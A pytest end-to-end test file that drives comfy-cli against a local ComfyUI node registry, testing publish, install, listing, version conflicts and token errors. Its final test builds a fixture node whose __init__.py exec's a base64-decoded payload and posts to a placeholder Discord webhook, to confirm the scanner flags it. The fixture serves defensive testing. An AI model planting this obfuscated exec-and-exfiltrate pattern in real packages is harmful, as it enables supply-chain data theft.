"""The real comfy-cli (PyPI comfy-cli==1.23.0) against the served local stack: publish, registry-install, and the
reads ComfyUI-Manager makes. See /work/shared/reference/clients.md (a) and (b) for what these clients send and read."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import ComfyCli, ComfyResult, ServedStack

pytestmark = pytest.mark.e2e

PENDING = "NodeVersionStatusPending"
ACTIVE = "NodeVersionStatusActive"


def _git(repo: Path, *args: str) -> str:
    env = {"HOME": str(repo.parent), "GIT_CONFIG_NOSYSTEM": "1", "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    out = subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True, timeout=60)
    return out.stdout


def _pyproject(node_id: str, publisher_id: str, version: str) -> str:
    return f"""[project]
name = "{node_id}"
version = "{version}"
description = "An end-to-end test node"
license = {{ text = "MIT" }}
dependencies = []

[project.urls]
Repository = "https://github.com/example/{node_id}"

[tool.comfy]
PublisherId = "{publisher_id}"
DisplayName = "E2E {node_id}"
Icon = ""
"""


def make_node_repo(parent: Path, node_id: str, publisher_id: str, version: str = "1.0.0") -> Path:
    """A committed git repo holding a minimal custom node, as a node author would have it."""
    repo = parent / node_id
    (repo / "web" / "js").mkdir(parents=True)
    (repo / "pyproject.toml").write_text(_pyproject(node_id, publisher_id, version))
    (repo / "__init__.py").write_text(
        "class E2ENode:\n"
        "    CATEGORY = 'e2e'\n"
        "    RETURN_TYPES = ()\n"
        "    FUNCTION = 'run'\n"
        "\n"
        "    @classmethod\n"
        "    def INPUT_TYPES(cls):\n"
        "        return {'required': {}}\n"
        "\n"
        "    def run(self):\n"
        "        return ()\n"
        "\n"
        "\n"
        "NODE_CLASS_MAPPINGS = {'E2ENode': E2ENode}\n"
        "WEB_DIRECTORY = './web'\n"
    )
    (repo / "web" / "js" / "x.js").write_text("console.log('e2e node loaded');\n")
    (repo / "README.md").write_text(f"# {node_id}\n\nPublished by the end-to-end test.\n")
    _git(repo, "init", "-q")
    _git(repo, "config", "user.email", "e2e@example.com")
    _git(repo, "config", "user.name", "E2E")
    _git(repo, "config", "commit.gpgsign", "false")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "init")
    return repo


def bump_version(repo: Path, node_id: str, publisher_id: str, version: str) -> None:
    (repo / "pyproject.toml").write_text(_pyproject(node_id, publisher_id, version))
    _git(repo, "commit", "-q", "-am", f"v{version}")


def tracked_files(repo: Path) -> dict[str, bytes]:
    names = [n for n in _git(repo, "ls-files", "-z").split("\0") if n]
    return {name: (repo / name).read_bytes() for name in names}


def tree_files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def envelope(result: ComfyResult) -> dict[str, Any]:
    """The JSON envelope comfy-cli prints on stdout when stdout is not a TTY (the last line that parses)."""
    for line in reversed(result.stdout.strip().splitlines()):
        line = line.strip()
        if line.startswith("{"):
            try:
                value = json.loads(line)
            except ValueError:
                continue
            if isinstance(value, dict) and "ok" in value:
                return value
    try:
        value = json.loads(result.stdout)
    except ValueError:
        return {}
    return value if isinstance(value, dict) else {}


def registry_install(comfy: ComfyCli, workspace: Path, node_id: str, version: str, cwd: Path) -> ComfyResult:
    """`comfy --workspace W node registry-install ID --version V` into a fresh workspace."""
    (workspace / "custom_nodes").mkdir(parents=True)
    return comfy.run(
        "--workspace",
        str(workspace),
        "node",
        "registry-install",
        node_id,
        "--version",
        version,
        "--force-download",
        cwd=cwd,
    )


def publish(comfy: ComfyCli, repo: Path, token: str) -> ComfyResult:
    return comfy.run("node", "publish", "--token", token, cwd=repo)


def test_publish_install_and_manager_reads(comfy: ComfyCli, served_stack: ServedStack, tmp_path: Path) -> None:
    publisher_id, node_id = "e2e-pub", "e2e-node"
    pat = served_stack.publisher_with_token("e2e-owner", publisher_id)
    repo = make_node_repo(tmp_path, node_id, publisher_id)
    source = tracked_files(repo)
    assert set(source) == {"pyproject.toml", "__init__.py", "web/js/x.js", "README.md"}

    # 1. publish 1.0.0: POST .../versions (201) then PUT of node.zip to the signed URL (200)
    result = publish(comfy, repo, pat)
    assert result.returncode == 0, result.describe()
    assert (repo / "node.zip").is_file(), f"comfy-cli left no node.zip:\n{result.describe()}"
    uploaded = (repo / "node.zip").read_bytes()
    with zipfile.ZipFile(io.BytesIO(uploaded)) as archive:
        assert sorted(archive.namelist()) == sorted(source), "node.zip does not hold exactly the git-tracked files"

    # 2. the upload was scanned in-process (pending -> active) and the API shows the node
    r = served_stack.get(f"/nodes/{node_id}")
    assert r.status_code == 200, f"GET /nodes/{node_id} -> {r.status_code} {r.text}"
    node = r.json()
    assert node["id"] == node_id
    assert node["name"] == f"E2E {node_id}"
    assert node["repository"] == f"https://github.com/example/{node_id}"
    latest = node["latest_version"]
    assert latest["version"] == "1.0.0", node
    assert latest["status"] == ACTIVE, node
    assert latest["status_reason"] == "Passed automated checks", node
    # the scanner's own log line shows the upload event arriving and the verdict applied
    log = served_stack.log_path.read_text()
    assert re.search(rf"scanner: {publisher_id}/{node_id}/1\.0\.0/[0-9a-f]+/node\.zip -> scanned active", log), log

    # 3. the uploaded archive is served unchanged at the version's downloadUrl: the public copy the scanner released
    r = served_stack.get(f"/nodes/{node_id}/install", params={"version": "1.0.0"})
    assert r.status_code == 200, f"GET /nodes/{node_id}/install?version=1.0.0 -> {r.status_code} {r.text}"
    install = r.json()
    assert install["version"] == "1.0.0" and install["id"], install
    download_url = install["downloadUrl"]
    releases = f"{served_stack.base_url}/_local/blobs/comfy-registry-releases/{publisher_id}/{node_id}/1.0.0/node.zip"
    assert download_url == releases, install
    assert latest.get("downloadUrl") in (None, download_url), (latest, install)
    r = served_stack.get(download_url.removeprefix(served_stack.base_url))
    assert r.status_code == 200, f"GET {download_url} -> {r.status_code} {r.text[:500]}"
    assert r.content == uploaded, "the served archive differs from the node.zip comfy-cli uploaded"

    # 4. registry-install unpacks that archive into <workspace>/custom_nodes/<id>/
    workspace = tmp_path / "ComfyUI"
    result = registry_install(comfy, workspace, node_id, "1.0.0", tmp_path)
    assert result.returncode == 0, result.describe()
    installed = tree_files(workspace / "custom_nodes" / node_id)
    assert sorted(installed) == sorted(source), result.describe()
    for name, content in source.items():
        assert installed[name] == content, f"{name} differs after registry-install"

    # 5. publish 1.1.0 from the same repo (node.zip of 1.0.0 is untracked and left out of the new archive)
    bump_version(repo, node_id, publisher_id, "1.1.0")
    result = publish(comfy, repo, pat)
    assert result.returncode == 0, result.describe()
    assert served_stack.get(f"/nodes/{node_id}").json()["latest_version"]["version"] == "1.1.0"

    # registry-install without --version (GET /nodes/<id>/install) takes the latest, over the installed 1.0.0
    result = comfy.run(
        "--workspace", str(workspace), "node", "registry-install", node_id, "--force-download", cwd=tmp_path
    )
    assert result.returncode == 0, result.describe()
    installed = tree_files(workspace / "custom_nodes" / node_id)
    assert installed == tracked_files(repo), result.describe()
    assert b'version = "1.1.0"' in installed["pyproject.toml"]

    # 6. ComfyUI-Manager's list load: GET /nodes?page=N&limit=30 while page < totalPages
    found: dict[str, Any] | None = None
    page, total_pages = 1, 1
    while True:
        r = served_stack.get(
            "/nodes",
            params={"page": page, "limit": 30, "comfyui_version": "unknown", "form_factor": "other"},
            headers={"Cache-Control": "no-cache", "Pragma": "no-cache", "Expires": "0"},
        )
        assert r.status_code == 200, f"GET /nodes?page={page}&limit=30 -> {r.status_code} {r.text}"
        body = r.json()
        assert isinstance(body["nodes"], list) and isinstance(body["totalPages"], int), body
        total_pages = body["totalPages"]
        for item in body["nodes"]:
            assert item["id"] and "name" in item and "description" in item, item
            assert item["publisher"]["name"], item
            if item["id"] == node_id:
                found = item
        if page >= total_pages:
            break
        page += 1
        assert page <= 100, "the /nodes paging loop did not terminate"
    assert found is not None, f"{node_id} not in GET /nodes ({total_pages} pages)"
    assert found["publisher"]["name"] == f"{publisher_id} name", found
    assert found["latest_version"]["version"] == "1.1.0", found

    # 7. ComfyUI-Manager's show-versions: a bare JSON array with createdAt/version/changelog
    r = served_stack.get(f"/nodes/{node_id}/versions", params=[("statuses", ACTIVE), ("statuses", PENDING)])
    assert r.status_code == 200, f"GET /nodes/{node_id}/versions?statuses=... -> {r.status_code} {r.text}"
    versions = r.json()
    assert isinstance(versions, list), f"expected a bare JSON array, got: {r.text[:500]}"
    assert sorted(v["version"] for v in versions) == ["1.0.0", "1.1.0"], versions
    for v in versions:
        assert isinstance(v["createdAt"], str) and len(v["createdAt"]) >= 10, v
        assert "changelog" in v, v

    # 8. publishing the same version again is refused (409) and comfy-cli exits non-zero
    result = publish(comfy, repo, pat)
    assert result.returncode != 0, result.describe()
    error = envelope(result).get("error") or {}
    assert (error.get("details") or {}).get("status") == 409, result.describe()
    r = served_stack.get(f"/nodes/{node_id}/versions")
    assert sorted(v["version"] for v in r.json()) == ["1.0.0", "1.1.0"], r.text


def test_publish_with_a_wrong_token_fails_with_the_server_message(
    comfy: ComfyCli, served_stack: ServedStack, tmp_path: Path
) -> None:
    publisher_id, node_id = "e2e-pub-badtoken", "e2e-badtoken-node"
    served_stack.publisher_with_token("e2e-badtoken-owner", publisher_id)
    repo = make_node_repo(tmp_path, node_id, publisher_id)
    wrong = "not-a-real-token-0123456789"

    # What the server answers to that token, asked directly with the body comfy-cli sends.
    r = served_stack.post(
        f"/publishers/{publisher_id}/nodes/{node_id}/versions",
        json={
            "personal_access_token": wrong,
            "node": {"id": node_id, "name": f"E2E {node_id}", "description": "", "icon": "", "license": "{}"},
            "node_version": {"version": "1.0.0", "dependencies": []},
        },
    )
    # upstream registry-backend answers 400 "Invalid personal access token"; 401 or 403 would do for comfy-cli too
    assert r.status_code in (400, 401, 403), f"wrong token -> {r.status_code} {r.text}"
    message = r.json()["message"]
    assert message

    result = publish(comfy, repo, wrong)
    assert result.returncode == 1, result.describe()
    assert message in result.output, (
        f"the server's message {message!r} is not in comfy-cli's output:\n{result.describe()}"
    )
    error = envelope(result).get("error") or {}
    assert error.get("code") == "node_publish_failed", result.describe()
    assert (error.get("details") or {}).get("status") == r.status_code, result.describe()
    assert not (repo / "node.zip").exists(), "comfy-cli built an archive although the publish was refused"
    assert served_stack.get(f"/nodes/{node_id}").status_code == 404


def test_malicious_pack_is_flagged_and_cannot_be_installed(
    comfy: ComfyCli, served_stack: ServedStack, tmp_path: Path
) -> None:
    publisher_id, node_id = "e2e-pub-evil", "e2e-evil-node"
    pat = served_stack.publisher_with_token("e2e-evil-owner", publisher_id)
    repo = make_node_repo(tmp_path, node_id, publisher_id)
    # After the ComfyUI_LLMVISION incident: decode a payload, run it, post to a chat webhook (inert here).
    (repo / "__init__.py").write_text(
        "import base64, urllib.request\n"
        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
        "urllib.request.urlopen('https://discord.com/api/webhooks/000/xxx', data=b'x')\n"
        "NODE_CLASS_MAPPINGS = {}\n"
    )
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "evil")
    result = publish(comfy, repo, pat)
    assert result.returncode == 0, result.describe()  # the upload itself succeeds; the scan judges it

    versions = served_stack.get(f"/nodes/{node_id}/versions", params={"include_status_reason": "true"}).json()
    assert [(v["version"], v["status"]) for v in versions] == [("1.0.0", "NodeVersionStatusFlagged")], versions
    assert versions[0]["status_reason"].startswith("Flagged by automated checks")
    r = served_stack.get(f"/nodes/{node_id}/install", params={"version": "1.0.0"})
    assert r.status_code == 403, r.text

    workspace = tmp_path / "ws-evil"
    installed = registry_install(comfy, workspace, node_id, "1.0.0", tmp_path)
    assert not (workspace / "custom_nodes" / node_id).exists(), installed.describe()
